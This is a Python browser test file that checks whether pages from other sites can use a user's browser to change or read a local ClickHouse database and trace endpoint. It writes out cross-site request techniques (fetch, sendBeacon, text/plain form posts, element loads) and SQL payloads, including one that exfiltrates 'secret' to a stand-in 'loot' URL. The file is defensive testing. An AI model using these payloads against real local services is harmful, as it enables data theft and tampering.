"""Pages of other sites, visited by somebody on whose machine the local stack runs."""

from __future__ import annotations

import contextlib
import json
import secrets
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import quote

import pytest
from opentelemetry.proto.trace.v1 import trace_pb2
from playwright.sync_api import Browser, Error, Page

from spanloom.warehouse.client import new_client
from spanloom.warehouse.settings import ClickHouseSettings
from tests.dashboard.browser.conftest import ELSEWHERE, Stack
from tests.dashboard.browser.otlp import send, span
from tests.fixtures_local import wait_until


class Site:
    """Another site: an empty page, and a list of what else it was asked for."""

    def __init__(self) -> None:
        asked = self.asked = list[str]()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path not in ("/", "/favicon.ico"):
                    asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<!doctype html><title>kittens</title>")

            do_POST = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port


@pytest.fixture
def site() -> Iterator[Site]:
    site = Site()
    threading.Thread(target=site.server.serve_forever, daemon=True).start()
    yield site
    site.server.shutdown()
    site.server.server_close()


@pytest.fixture(params=[ELSEWHERE, "127.0.0.1"])
def visited(request: pytest.FixtureRequest, browser: Browser, site: Site) -> Iterator[Page]:
    """The page of another site; and that of another port of this machine, which browsers call the same site."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"http://{request.param}:{site.port}/")
    yield page
    context.close()


LOADED = """
([kind, address]) => new Promise((done) => {
  const element = document.createElement(kind);
  element.onload = element.onerror = done;
  if (kind === "link") { element.rel = "stylesheet"; element.href = address; } else element.src = address;
  document.body.append(element);
  setTimeout(done, 3000);
})
"""

FETCHED = """
async ([address, body]) => {
  try {
    await fetch(address, { method: body === null ? "GET" : "POST", body, mode: "no-cors", credentials: "include" });
  } catch {}
}
"""

SENT = "([address, body]) => navigator.sendBeacon(address, body)"

FORM = """
([address, field, text]) => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.name = "frame" + Math.random();
  document.body.append(frame);
  const form = document.createElement("form");
  form.method = "post"; form.enctype = "text/plain"; form.action = address; form.target = frame.name;
  const input = document.createElement("textarea");
  input.name = field; input.value = text;
  form.append(input);
  document.body.append(form);
  frame.onload = done;
  form.submit();
  setTimeout(done, 3000);
})
"""


def try_statement(page: Page, url: str, statement: str) -> None:
    """Have the browser send SQL in every way that a page has."""
    address = f"{url}/?readonly=0&query={quote(statement)}"
    for kind in ("img", "script", "link", "iframe", "video"):
        page.evaluate(LOADED, [kind, address])
    page.evaluate(FETCHED, [address, None])
    page.evaluate(FETCHED, [f"{url}/", statement])
    page.evaluate(FETCHED, [address, ""])
    page.evaluate(SENT, [f"{url}/", statement])
    page.evaluate(FORM, [f"{url}/", f"{statement} --", ""])
    # A page may also just go there, or open a window.
    visit = page.context.new_page()
    visit.goto(page.url)
    with contextlib.suppress(Error), visit.expect_navigation():  # an answer may be a download
        visit.evaluate("(address) => { location = address }", address)
    visit.close()


def first_column(stack: Stack, statement: str) -> set[str]:
    client = new_client(ClickHouseSettings(url=stack.clickhouse_url), None)
    try:
        return {str(row[0]) for row in client.query(statement).result_rows}
    finally:
        client.close()


def test_no_page_from_elsewhere_changes_the_database(stack: Stack, visited: Page) -> None:
    try_statement(visited, stack.clickhouse_url, "CREATE TABLE default.stolen (a Int8) ENGINE = Memory")
    assert first_column(stack, "SELECT name FROM system.tables WHERE name = 'stolen'") == set()


def test_no_page_from_elsewhere_sends_anything_out(stack: Stack, visited: Page, site: Site) -> None:
    loot = f"http://127.0.0.1:{site.port}/loot"
    try_statement(
        visited,
        stack.clickhouse_url,
        f"INSERT INTO FUNCTION url('{loot}', 'CSV', 'a String') SELECT 'secret'",
    )
    try_statement(visited, stack.clickhouse_url, f"SELECT * FROM url('{loot}', 'CSV', 'a String')")
    assert site.asked == []


def test_no_page_reads_by_a_name_of_its_own(stack: Stack, browser: Browser) -> None:
    context = browser.new_context()
    page = context.new_page()
    port = stack.clickhouse_url.rpartition(":")[2]
    answer = page.goto(f"http://{ELSEWHERE}:{port}/?query=SELECT+42")
    assert answer is not None
    assert "ACCESS_DENIED" in answer.text()
    assert "42" not in answer.text()
    context.close()


def test_the_user_may_ask_by_the_address_bar(stack: Stack, browser: Browser) -> None:
    context = browser.new_context()
    answer = context.new_page().goto(f"{stack.clickhouse_url}/?query=SELECT+6*7+FORMAT+JSON")
    assert answer is not None
    assert "42" in answer.text()
    context.close()


def test_no_page_from_elsewhere_sends_spans(stack: Stack, visited: Page) -> None:
    mark = secrets.token_hex(4)
    bodies = [
        json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [span(f"{mark}-{way}")]}]}]})
        for way in ("fetch", "beacon", "form")
    ]
    for path in ("/v1/traces", "/api/public/otel/v1/traces"):
        address = stack.otlp_url + path
        visited.evaluate(FETCHED, [address, bodies[0]])
        # A body without a content type, which is read as protobuf: that of an empty message, and a span's.
        visited.evaluate(
            """
            async ([address, bytes]) => {
              try { await fetch(address, { method: "POST", mode: "no-cors", body: new Uint8Array(bytes) }); } catch {}
            }
            """,
            [address, list(protobuf(f"{mark}-bytes"))],
        )
        visited.evaluate(SENT, [address, bodies[1]])
        beginning, _, end = bodies[2].partition('"chat"')
        visited.evaluate(FORM, [address, f'{beginning}"', f'"{end}'])
    # When these have come, in every partition of the topic, so would have what was sent before them.
    own = {f"{mark}-own-{number}" for number in range(40)}
    for each in own:
        send(stack.otlp_url, span(each))
    statement = f"SELECT session_id FROM spanloom.sessions WHERE startsWith(session_id, '{mark}')"
    wait_until(lambda: own <= first_column(stack, statement), "the sessions are there")
    assert first_column(stack, statement) == own


def protobuf(session: str) -> bytes:
    """An ExportTraceServiceRequest of one span."""
    given = span(session)
    one = trace_pb2.Span(
        trace_id=bytes.fromhex(given["traceId"]),
        span_id=bytes.fromhex(given["spanId"]),
        name="chat",
        start_time_unix_nano=int(given["startTimeUnixNano"]),
        end_time_unix_nano=int(given["endTimeUnixNano"]),
    )
    attribute = one.attributes.add(key="session.id")
    attribute.value.string_value = session
    scopes = trace_pb2.ScopeSpans(spans=[one])
    return trace_pb2.TracesData(
        resource_spans=[trace_pb2.ResourceSpans(scope_spans=[scopes])]
    ).SerializeToString()
